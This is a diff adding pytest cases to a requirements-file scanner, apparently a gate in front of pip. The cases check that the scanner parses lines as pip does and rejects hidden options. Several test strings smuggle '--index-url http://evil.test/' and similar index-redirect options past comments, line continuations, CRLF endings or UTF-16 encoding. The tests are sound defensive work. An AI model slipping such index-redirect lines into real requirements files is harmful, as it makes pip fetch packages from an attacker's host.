@@ -216,3 +216,43 @@ def test_requirement_limits_are_the_limits_defaults():
     assert caps.requirements_bytes == DEFAULT_LIMITS.requirements_bytes
     assert caps.requirements_files == DEFAULT_LIMITS.requirements_files
     assert caps.requirements_depth == DEFAULT_LIMITS.requirements_depth
+
+
+TRICKY = [
+    "# a comment ending in a backslash is never joined \\\n--index-url http://evil.test/\n",
+    "alpha # a comment that swallows the next line \\\n--index-url http://evil.test/\n",
+    "alp\\\nha\n",
+    "alpha \\\n  --hash=sha256:" + "ab" * 32 + "\n",
+    "  # indented comment \\\n-f /tmp/wheels\n",
+    "alpha\\\n\\\n\\\n",
+    "\\\n--no-index\n",
+    "alpha\t# tab comment\n-i http://evil.test/ # trailing\n",
+    "alpha\r\n# crlf \\\r\n--extra-index-url http://evil.test/\r\n",
+]
+
+
+@pytest.mark.parametrize("text", TRICKY)
+def test_logical_lines_are_the_lines_pip_reads(text):
+    # pip's own preprocessing (join_lines, ignore_comments) is the oracle
+    req_file = pytest.importorskip("pip._internal.req.req_file")
+    expected = [(n, line) for n, line in req_file.preprocess(text)]
+    assert gatepip._logical_lines(text) == expected
+
+
+def test_scan_requirements_rejects_an_option_after_a_comment_ending_in_a_backslash(tmp_path):
+    _, why = _scan(tmp_path, TRICKY[0])
+    assert why is not None
+    assert "--index-url" in why
+    assert "requirements.txt:2" in why
+    found, why = _scan(tmp_path, TRICKY[1])  # the option is inside the comment: pip too
+    assert (found, why) == ([TopRequirement("alpha", "")], None)
+
+
+def test_scan_requirements_rejects_text_pip_might_decode_otherwise(tmp_path):
+    reqs = tmp_path / "requirements.txt"
+    reqs.write_bytes("--index-url http://evil.test/\nalpha\n".encode("utf-16"))
+    _, why = gatepip.scan_requirements([reqs])
+    assert why is not None
+    assert "not UTF-8" in why
+    reqs.write_bytes(b"\xef\xbb\xbfalpha\n")  # a UTF-8 byte order mark is fine
+    assert gatepip.scan_requirements([reqs]) == ([TopRequirement("alpha", "")], None)
